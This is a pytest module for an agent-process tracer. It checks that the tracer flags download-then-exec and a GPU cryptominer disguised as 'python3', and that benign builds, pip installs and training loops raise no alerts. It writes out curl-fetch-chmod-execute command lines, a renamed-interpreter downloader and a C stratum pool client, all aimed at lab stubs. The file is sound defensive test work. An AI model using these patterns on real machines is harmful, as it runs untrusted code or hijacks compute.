"""Behaviour across processes (issue #13): download-then-exec, and GPU + network that does not
trust the process name. Real processes in real agent cgroups in the netlab (its "external" web
server is the download site and its pool stub the pool); only NVML is faked (no GPU here).
One tracer session serves the whole module; each case runs in an agent cgroup of its own."""
from __future__ import annotations

import base64
import hashlib
import io
import os
import shutil
import subprocess
import sys
import textwrap
import time
import uuid
import zipfile

import orjson
import pytest

from conftest import AGENTTRACE, AgentTree, ListSink, Session, need_bpf
from agenttrace.lab.netlab import INTERNAL_HOST, POOL_HOST, WEB_HOST

# unique per test run: `run -- CMD` locks its agent name, and another checkout's suite may run
# this same test at the same time
_AGENT_DL_CLI = f"dl-cli-{os.getpid()}"

PY = sys.executable

# A pool client that gives itself no name: connects to the pool, subscribes in stratum, then
# keeps the session open (as a miner does between jobs) until it is ended by pid.
MINER_C = r'''
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int argc, char **argv) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
    inet_pton(AF_INET, argv[1], &a.sin_addr);
    if (connect(s, (struct sockaddr *)&a, sizeof(a)) < 0) { perror("connect"); return 4; }
    const char *sub = "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"agent/1.0\"]}\n";
    send(s, sub, strlen(sub), 0);
    char buf[512];
    int n = recv(s, buf, sizeof(buf) - 1, 0);
    printf("ready %d\n", n);
    fflush(stdout);
    sleep(60);
    return 0;
}
'''
MINER_C = "#include <stdlib.h>\n" + MINER_C


@pytest.fixture(scope="module")
def lab_session(netlab, tmp_path_factory):
    """(session, agent tree, fake GPU backend, work dir): proc, net and flow probes, the default
    pack in monitor mode, the fake NVML with two symbolic holders bound later."""
    need_bpf()
    from agenttrace.enrich.cgroups import cgroup2_mount
    from agenttrace.gpu.fake import FakeBackend
    from agenttrace.gpu.service import GpuConfig, GpuGroupPolicy
    from agenttrace.match.engine import Engine
    from agenttrace.match.rules import default_rule_paths, load_rules
    from agenttrace.session.pipeline import Options, Tracer
    work = tmp_path_factory.mktemp("behaviour")
    fixture = work / "gpu.yaml"
    fixture.write_text(textwrap.dedent("""\
        gpus:
          - {index: 0, uuid: GPU-00000000-0000-0000-0000-0000000000c0, name: NVIDIA H100 80GB HBM3}
        timeline:
          - at: 0
            procs:
              - {pid: miner, gpu: 0, memory_mib: 6144, sm: 99, mem: 60}
              - {pid: trainer, gpu: 0, memory_mib: 30000, sm: 95, mem: 40}
        """))
    backend = FakeBackend(fixture)
    # until a case binds its process, both holders are this (untraced) test process
    backend.bind("miner", os.getpid())
    backend.bind("trainer", os.getpid())
    tree = AgentTree(cgroup2_mount())
    sink = ListSink()
    tracer = Tracer(Options(cgroups=[tree.root], features=("proc", "net", "flow"),
                            gpu=GpuConfig(interval_s=0.1, default=GpuGroupPolicy(allowed=True), fence="off"),
                            gpu_backend=backend),
                    [sink], engine=Engine(load_rules(list(default_rule_paths())), mode="monitor"))
    try:
        tracer.start()
        yield Session(tracer, sink), tree, backend, work
    finally:
        tracer.stop()
        tree.cleanup()


def _alerts(sess, rule, pid=None):
    return [r for r in sess.of("alert") if r["rule"]["id"] == rule and (pid is None or r["proc"]["pid"] == pid)]


def _exec_of(sess, path):
    return [r for r in sess.of("exec") if r["proc"].get("filename") == str(path) or r["proc"]["exe"] == str(path)
            or (r["proc"].get("fresh_exe") or {}).get("path") == str(path)]


def _payload(netlab, name):
    """A real executable on the lab's external web server, as /<name>."""
    shutil.copyfile("/usr/bin/sleep", netlab.http_root / name)
    return f"http://{WEB_HOST}/{name}"


def _run(netlab, cg, argv, timeout=60):
    r = netlab.check_in_agent(argv, cgroup=cg, timeout=timeout)
    assert r.returncode == 0, (argv, r.stdout[-500:], r.stderr[-1500:])
    return r


def _run_live(sess, netlab, cg, argv, timeout=60):
    """Run while the reader reads, as it does live (the exec'd program is still there to look at)."""
    p = netlab.run_in_agent(argv, cgroup=cg, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    deadline = time.monotonic() + timeout
    while p.poll() is None and time.monotonic() < deadline:
        sess.tracer.poll(20)
    if p.poll() is None:
        p.kill()
    err = p.communicate()[1]
    assert p.returncode == 0, (argv, err[-1500:])


# ---- download-then-exec -------------------------------------------------------------------------

def test_curl_download_then_exec_names_the_downloader(lab_session, netlab):
    sess, tree, _, work = lab_session
    cg = tree.agent("dl-curl")
    name = f"tool-{uuid.uuid4().hex[:6]}"
    url = _payload(netlab, name)
    dest = work / "curl" / name
    dest.parent.mkdir()
    # run as `./name` from its directory: the kernel keeps the relative name
    _run_live(sess, netlab, cg, ["/bin/bash", "-c", f"cd {dest.parent} && curl -sf -o {name} {url} && chmod +x {name} && ./{name} 0.5; true"])
    got = sess.wait_for(lambda: _alerts(sess, "download-then-exec") and _exec_of(sess, dest), 30)
    assert got, [(r["proc"].get("filename"), r["proc"]["exe"], r["proc"].get("fresh_exe")) for r in sess.of("exec") if r["agent"]["id"] == "dl-curl"]
    (run,) = _exec_of(sess, dest)
    al = [a for a in _alerts(sess, "download-then-exec") if a["proc"]["pid"] == run["proc"]["pid"]]
    assert al, [a["proc"]["pid"] for a in _alerts(sess, "download-then-exec")]
    a = al[0]
    curl = [r for r in sess.of("exec") if r["proc"]["exe"] == "/usr/bin/curl" and r["agent"]["id"] == "dl-curl"]
    fx = a["proc"]["fresh_exe"]
    assert a["agent"]["id"] == "dl-curl" and a["rule"]["category"] == "download-exec"
    assert fx["path"] == str(dest) and 0 <= fx["changed_age_s"] < 60
    d = fx["downloader"]
    assert d["exe"] == "/usr/bin/curl" and d["pid"] == curl[0]["proc"]["pid"]
    assert (d["dst"]["addr"], d["dst"]["port"], d["dst"]["scope"]) == (WEB_HOST, 80, "external")
    assert "builder" not in fx
    assert str(dest) in a["rule"]["message"] and "/usr/bin/curl" in a["rule"]["message"]


def test_renamed_python_downloader_is_judged_by_behaviour(lab_session, netlab):
    sess, tree, _, work = lab_session
    cg = tree.agent("dl-python")
    name = f"agent-{uuid.uuid4().hex[:6]}"
    url = _payload(netlab, name)
    d = work / "py"
    d.mkdir()
    fetcher = d / "update-helper"           # CPython under a name that says nothing
    shutil.copyfile("/usr/bin/python3.11", fetcher)
    fetcher.chmod(0o755)
    dest = d / name
    code = f"import urllib.request; urllib.request.urlretrieve({url!r}, {str(dest)!r})"
    _run_live(sess, netlab, cg, ["/bin/sh", "-c", f"{fetcher} -c \"{code}\" && chmod 755 {dest} && {dest} 0.5"])
    got = sess.wait_for(lambda: [a for a in _alerts(sess, "download-then-exec") if a["agent"]["id"] == "dl-python"], 30)
    assert got, [(r["proc"]["exe"], r["ts"], r["proc"].get("fresh_exe")) for r in sess.records
                 if r["kind"] in ("exec", "exit", "connect", "flow") and r["agent"]["id"] == "dl-python"]
    (run,) = _exec_of(sess, dest)
    (fx_exec,) = [r for r in sess.of("exec") if r["proc"]["exe"] == str(fetcher)]
    a = got[0]
    assert a["proc"]["pid"] == run["proc"]["pid"]
    dl = a["proc"]["fresh_exe"]["downloader"]
    assert dl["pid"] == fx_exec["proc"]["pid"] and dl["exe"] == str(fetcher) and dl["runtime"] == "cpython"
    assert dl["dst"]["addr"] == WEB_HOST and dl["protocol"] == "http"
    # the renamed interpreter was itself fresh, but nothing of this agent downloaded it
    assert not [x for x in _alerts(sess, "download-then-exec") if x["proc"]["pid"] == fx_exec["proc"]["pid"]]


def test_gcc_build_next_to_a_networked_agent_process_raises_nothing(lab_session, netlab):
    sess, tree, _, work = lab_session
    cg = tree.agent("dl-gcc")
    d = work / "gcc"
    d.mkdir()
    (d / "hello.c").write_text('#include <stdio.h>\nint main(void){puts("hi");return 0;}\n')
    # the agent's own long-lived process, holding an external session (its model API)
    api = netlab.run_in_agent([PY, "-c", textwrap.dedent("""
        import socket, sys, time
        s = socket.create_connection(("%s", 80))
        s.sendall(b"GET / HTTP/1.1\\r\\nHost: api\\r\\n\\r\\n"); s.recv(100)
        print("ready", flush=True); time.sleep(60)
        """ % WEB_HOST)], cgroup=cg, stdout=subprocess.PIPE)
    try:
        assert api.stdout.readline().startswith(b"ready")
        _run_live(sess, netlab, cg, ["/bin/sh", "-c", f"gcc -o {d}/hello {d}/hello.c && {d}/hello"])
        run = sess.wait_for(lambda: [r for r in _exec_of(sess, d / "hello") if "fresh_exe" in r["proc"]], 30)
    finally:
        api.kill()
        api.wait()
    assert run, [r["proc"]["exe"] for r in sess.of("exec") if r["agent"]["id"] == "dl-gcc"]
    fx = run[0]["proc"]["fresh_exe"]
    assert fx["builder"]["tool"] == "build", fx            # the linker wrote it
    assert fx["downloader"]["pid"] == api.pid              # the networked process was there too
    sess.settle()
    # the API session itself is reported as unknown egress (its own rule), nothing else is
    others = [a for a in sess.of("alert") if a["agent"]["id"] == "dl-gcc"
              and not (a["rule"]["id"] == "egress-unknown-external" and a["proc"]["pid"] == api.pid)]
    assert not others, [(a["rule"]["id"], a["proc"]["exe"]) for a in others]


def _wheel(dist: str) -> tuple[str, bytes]:
    mod = dist.replace("-", "_")
    files = {f"{mod}/__init__.py": b"def main():\n    print('hello from the mirror')\n",
             f"{mod}-1.0.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {dist}\nVersion: 1.0\n".encode(),
             f"{mod}-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: agenttrace-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
             f"{mod}-1.0.dist-info/entry_points.txt": f"[console_scripts]\n{dist} = {mod}:main\n".encode()}
    record = "".join(f"{p},sha256={base64.urlsafe_b64encode(hashlib.sha256(b).digest()).rstrip(b'=').decode()},{len(b)}\n"
                     for p, b in files.items()) + f"{mod}-1.0.dist-info/RECORD,,\n"
    files[f"{mod}-1.0.dist-info/RECORD"] = record.encode()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for p, b in files.items():
            z.writestr(p, b)
    return f"{mod}-1.0-py3-none-any.whl", buf.getvalue()


def test_pip_install_from_the_mirror_then_its_console_script_raises_nothing(lab_session, netlab):
    sess, tree, _, work = lab_session
    cg = tree.agent("dl-pip")
    dist = f"at-hello-{uuid.uuid4().hex[:6]}"
    whl, data = _wheel(dist)
    idx = netlab.http_root / "simple" / dist
    idx.mkdir(parents=True)
    (netlab.http_root / "files").mkdir(exist_ok=True)
    (netlab.http_root / "files" / whl).write_bytes(data)
    (idx / "index.html").write_text(f'<html><body><a href="../../files/{whl}">{whl}</a></body></html>\n')
    pfx = work / "pfx"
    # the mirror is on the lab's external web server: pip itself downloads, and is an installer
    _run(netlab, cg, [PY, "-m", "pip", "--isolated", "install", "--no-deps", "--no-cache-dir",
                      "--disable-pip-version-check", "--index-url", f"http://{WEB_HOST}/simple/", "--trusted-host", WEB_HOST,
                      "--prefix", str(pfx), dist], timeout=120)
    script = pfx / "bin" / dist
    site = next(pfx.glob("lib/python3*/site-packages"))
    r = _run(netlab, cg, ["/usr/bin/env", f"PYTHONPATH={site}", str(script)])
    assert "hello from the mirror" in r.stdout
    run = sess.wait_for(lambda: [x for x in _exec_of(sess, script) if "fresh_exe" in x["proc"]], 30)
    assert run, [x["proc"].get("filename") for x in sess.of("exec") if x["agent"]["id"] == "dl-pip"]
    fx = run[0]["proc"]["fresh_exe"]
    # pip, or what pip started (it runs `rustc --version` for its user agent): an installer
    assert "downloader" not in fx and fx["builder"]["tool_by"] == "pip" and fx["builder"]["tool"] == "installer", fx
    pip_net = [x for x in sess.of("connect") if x["agent"]["id"] == "dl-pip" and x["net"]["dst"]["addr"] == WEB_HOST]
    assert pip_net                                      # pip did reach the external mirror
    sess.settle()
    # an external mirror is unknown egress (reported by its own rule); nothing else is raised
    others = [a for a in sess.of("alert") if a["agent"]["id"] == "dl-pip" and a["rule"]["id"] != "egress-unknown-external"]
    assert not others, [(a["rule"]["id"], a["proc"]["exe"]) for a in others]


# ---- GPU + network ------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def pool_client(tmp_path_factory):
    if not shutil.which("gcc"):
        pytest.skip("needs gcc to build the pool client")
    d = tmp_path_factory.mktemp("poolclient")
    (d / "m.c").write_text(MINER_C)
    (d / "bin").mkdir()
    subprocess.run(["gcc", "-O1", "-o", str(d / "bin" / "python3"), str(d / "m.c")], check=True)
    return d / "bin" / "python3"


def test_miner_named_python3_on_the_gpu_talking_to_the_pool(lab_session, netlab, pool_client):
    sess, tree, backend, _ = lab_session
    cg = tree.agent("gpu-miner")
    p = netlab.run_in_agent([str(pool_client), POOL_HOST, "443"], cgroup=cg, stdout=subprocess.PIPE)
    try:
        assert p.stdout.readline().startswith(b"ready")
        assert sess.wait_for(lambda: [f for f in sess.of("flow") if f["proc"]["pid"] == p.pid
                                      and f["flow"]["protocol"] == "stratum"], 30)
        backend.bind("miner", p.pid)
        got = sess.wait_for(lambda: _alerts(sess, "gpu-busy-pool-traffic", p.pid)
                            and _alerts(sess, "gpu-busy-external-connection", p.pid), 30)
    finally:
        backend.bind("miner", os.getpid())
        p.kill()
        p.wait()
    assert got, [(a["rule"]["id"], a["proc"]["pid"]) for a in sess.of("alert")]
    a = _alerts(sess, "gpu-busy-pool-traffic", p.pid)[0]
    assert a["proc"]["comm"] == "python3" and a["agent"]["id"] == "gpu-miner" and a["trigger"] == "gpu"
    (c,) = [c for c in a["proc"]["egress"]["contacts"] if c["port"] == 443]
    assert c["addr"] == POOL_HOST and c["protocol"] == "stratum" and c["held"] and c["pid"] == p.pid
    # not CPython by content, whatever the name: the old rule no longer takes the name's word
    assert _alerts(sess, "gpu-busy-non-ml-process", p.pid)
    assert "runtime" not in a["proc"].get("identity", {})


def test_python_training_loop_with_internal_traffic_raises_nothing(lab_session, netlab):
    sess, tree, backend, _ = lab_session
    cg = tree.agent("gpu-trainer")
    p = netlab.run_in_agent([PY, "-c", textwrap.dedent("""
        import socket, time
        s = socket.create_connection(("%s", 80))      # the internal data server
        s.sendall(b"GET / HTTP/1.1\\r\\nHost: data\\r\\n\\r\\n"); s.recv(100)
        print("ready", flush=True)
        x = 0
        for i in range(600):                                  # the training loop
            x += sum(range(1000)); time.sleep(0.1)
        """ % INTERNAL_HOST)], cgroup=cg, stdout=subprocess.PIPE)
    try:
        assert p.stdout.readline().startswith(b"ready")
        assert sess.wait_for(lambda: [c for c in sess.of("connect") if c["proc"]["pid"] == p.pid], 30)
        backend.bind("trainer", p.pid)
        g = sess.wait_for(lambda: [r for r in sess.of("gpu") if r["proc"]["pid"] == p.pid], 30)
        sess.settle()
    finally:
        backend.bind("trainer", os.getpid())
        p.kill()
        p.wait()
    assert g and g[0]["proc"]["identity"]["runtime"] == "cpython"
    assert g[0]["proc"]["egress"] == {"contacts": [], "external": 0, "held": 0}
    assert not [a for a in sess.of("alert") if a["agent"]["id"] == "gpu-trainer"], \
        [a["rule"]["id"] for a in sess.of("alert") if a["agent"]["id"] == "gpu-trainer"]


def test_session_records_validate_against_the_event_schema(lab_session):
    import json

    import jsonschema

    from agenttrace.paths import schema_dir
    sess = lab_session[0]
    sess.settle()
    v = jsonschema.Draft202012Validator(json.loads((schema_dir() / "event.schema.json").read_text()))
    mine = [r for r in sess.records if r["kind"] != "lifecycle"
            and ("fresh_exe" in (r.get("proc") or {}) or r["kind"] in ("gpu", "alert"))]
    assert any("fresh_exe" in r["proc"] for r in mine) and any(r["kind"] == "gpu" for r in mine)
    for r in mine:
        errs = sorted(v.iter_errors(r), key=lambda e: list(e.path))
        assert not errs, (r["kind"], [f"{list(e.path)}: {e.message}" for e in errs[:3]])


# ---- as a user starts it ----------------------------------------------------------------------

def test_cli_run_reports_download_then_exec(netlab, tmp_path, require_bpf):
    name = f"fetched-{uuid.uuid4().hex[:6]}"
    url = _payload(netlab, name)
    dest = tmp_path / name
    out = tmp_path / "events.jsonl"
    r = subprocess.run([AGENTTRACE, "run", "--output", str(out), "--agent", _AGENT_DL_CLI, "--no-dns", "--",
                        "nsenter", f"--net=/var/run/netns/{netlab.agent_ns}", "/bin/bash", "-c",
                        f"curl -sf -o {dest} {url} && chmod +x {dest} && {dest} 0.3"],
                       capture_output=True, timeout=180)
    assert r.returncode == 0, r.stderr.decode(errors="replace")[-2000:]
    recs = [orjson.loads(line) for line in out.read_bytes().splitlines()]
    al = [x for x in recs if x["kind"] == "alert" and x["rule"]["id"] == "download-then-exec"]
    assert al, [(x["rule"]["id"]) for x in recs if x["kind"] == "alert"]
    run = [x for x in recs if x["kind"] == "exec" and x["proc"]["exe"] == str(dest)]
    curl = [x for x in recs if x["kind"] == "exec" and x["proc"]["exe"] == "/usr/bin/curl"]
    a = al[0]
    assert a["agent"]["id"] == _AGENT_DL_CLI and a["proc"]["pid"] == run[0]["proc"]["pid"]
    assert a["proc"]["fresh_exe"]["downloader"]["pid"] == curl[0]["proc"]["pid"]
    assert a["rule"]["outcome"] == "reported" and a["rule"]["severity"] == "high"
